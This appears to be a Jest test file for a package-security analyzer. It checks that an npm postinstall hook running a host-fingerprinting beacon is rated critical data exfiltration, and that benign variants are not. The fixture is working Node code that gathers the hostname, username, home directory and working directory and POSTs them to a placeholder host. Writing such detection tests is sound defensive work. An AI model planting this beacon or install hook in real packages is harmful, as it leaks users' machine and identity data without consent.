import { analyzeSource } from './helpers';

const pkg = (scripts: Record<string, string>) =>
  JSON.stringify({ name: 'internal-utils', version: '9.9.9', scripts });

describe('install-time host fingerprint beacon', () => {
  const beacon = `const os = require('os');
const https = require('https');
const info = { h: os.hostname(), u: os.userInfo().username, d: os.homedir(), c: process.cwd() };
const body = JSON.stringify(info);
const req = https.request({ hostname: 'collect.beacon.example', method: 'POST', path: '/x' });
req.write(body);
req.end();
`;
  it('is critical data_exfiltration when run by postinstall', () => {
    const r = analyzeSource({ 'package.json': pkg({ postinstall: 'node setup.js' }), 'setup.js': beacon });
    const t = r.agentic_threats.filter((x) => x.threat_type === 'data_exfiltration');
    expect(Math.max(0, ...t.map((x) => x.confidence))).toBeGreaterThanOrEqual(0.8);
    expect(r.risk_level).toBe('critical');
  });
  it('stays below critical when the same code only runs when imported', () => {
    const r = analyzeSource({ 'package.json': pkg({}), 'index.js': beacon });
    expect(r.risk_level).not.toBe('critical');
  });
  it('a postinstall that prints a thank-you message is clean', () => {
    const r = analyzeSource({
      'package.json': pkg({ postinstall: 'node thanks.js' }),
      'thanks.js': "const os = require('os');\nconsole.log('Thanks for installing on ' + os.platform());\n",
    });
    expect(r.agentic_threats.filter((x) => x.confidence >= 0.5)).toEqual([]);
  });
});
